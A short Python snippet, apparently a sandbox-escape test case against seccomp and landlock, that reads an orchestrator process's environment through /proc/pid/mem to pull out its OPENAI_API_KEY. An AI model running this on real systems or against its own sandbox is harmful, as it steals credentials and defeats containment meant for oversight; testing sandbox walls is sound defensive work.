"""Reads the key out of the orchestrator's memory through /proc.

walls: seccomp landlock
"""

start, end = map(int, open(f"/proc/{ORCHESTRATOR}/stat").read().rpartition(")")[2].split()[47:49])
with open(f"/proc/{ORCHESTRATOR}/mem", "rb") as memory:
    memory.seek(start)
    environment = memory.read(end - start)
breach([v for v in environment.split(b"\0") if v.startswith(b"OPENAI_API_KEY")])
